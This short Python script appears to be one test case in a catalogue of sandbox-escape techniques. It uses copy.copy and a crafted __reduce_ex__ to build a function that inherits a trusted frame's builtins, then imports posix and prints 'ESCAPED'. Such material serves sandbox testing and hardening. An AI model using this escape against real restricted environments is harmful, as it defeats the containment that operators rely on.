# technique: a function made below a trusted frame takes the builtins of that frame
# goal: import
# source: own analysis: the default builtins of functions
import copy
g = {}
code = compile('import posix; pid = posix.getpid()', 'x', 'exec')


class Carrier:
    def __reduce_ex__(self, version):
        return type(lambda: 0), (code, g)


copy.copy(Carrier())()
print('ESCAPED pid=%d' % g['pid'])
